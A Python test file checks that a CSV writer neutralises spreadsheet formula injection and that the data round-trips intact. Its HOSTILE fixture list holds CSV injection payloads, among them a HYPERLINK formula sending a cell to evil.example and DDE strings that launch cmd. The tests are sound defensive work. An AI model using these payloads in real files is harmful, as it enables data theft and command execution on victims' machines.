"""CSV that spreadsheets do not compute, and that reads back as it was."""

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings, strategies as st

from headwise._base.tables import csv_text, read_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example?x="&A1)',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=1",
    "''=1",
    "-inf",
    "-1_000",
]
PLAIN = [
    "accuracy",
    "'tis",
    "a=b",
    "1-2",
    "",
    "-0.5",
    "+3",
    "-1e-05",
    "NA",
    "null",
    'naïve, "quoted"',
    "two\nlines",
    "two\rlines",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_compute_begins_with_an_apostrophe(value: str) -> None:
    (name,), (cell,) = cells(csv_text(pd.DataFrame({value: [value]})))
    assert (name, cell) == ("'" + value, "'" + value)


def test_numbers_and_other_text_stay_as_they_are() -> None:
    frame = pd.DataFrame(
        {
            "text": ["-0.5", "+3", "a=b", "'tis"],
            "number": [-0.5, 1e-300, float("-inf"), 1 / 3],
            "whole": [-1, 0, 1, 2],
        }
    )
    assert csv_text(frame) == frame.to_csv(index=False, lineterminator="\n")
    assert csv_text(frame, header=False) == frame.to_csv(index=False, header=False, lineterminator="\n")


def test_what_is_read_is_what_was_written(tmp_path: Path) -> None:
    text = [*HOSTILE, *PLAIN]
    numbers = np.random.default_rng(0).normal(size=len(text)) * 10.0 ** np.arange(-8, len(text) - 8)
    frame = pd.DataFrame({"=name": text, "value": numbers, "group": pd.Categorical(text)})
    (tmp_path / "t.csv").write_text(csv_text(frame), newline="")
    found = read_csv(tmp_path / "t.csv")
    assert list(found.columns) == ["=name", "value", "group"]
    assert found["=name"].fillna("").tolist() == text  # an empty text is a missing one
    assert found["group"].fillna("").tolist() == text
    assert found["value"].tolist() == numbers.tolist()  # to the last bit


@given(
    st.lists(
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=8),
        min_size=1,
        max_size=6,
    )
)
@settings(max_examples=200, deadline=None)
def test_any_text_comes_back(texts: list[str]) -> None:
    frame = pd.DataFrame({"text": ["word", *texts]})
    written = csv_text(frame)
    assert all(
        not cell.startswith(tuple("=+-@\t\r\n")) or _number(cell)
        for row in cells(written)[1:]
        for cell in row
    )
    found = read_csv(io.StringIO(written, newline=""))["text"].fillna("")  # type: ignore[arg-type]
    assert found.tolist() == ["word", *texts]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
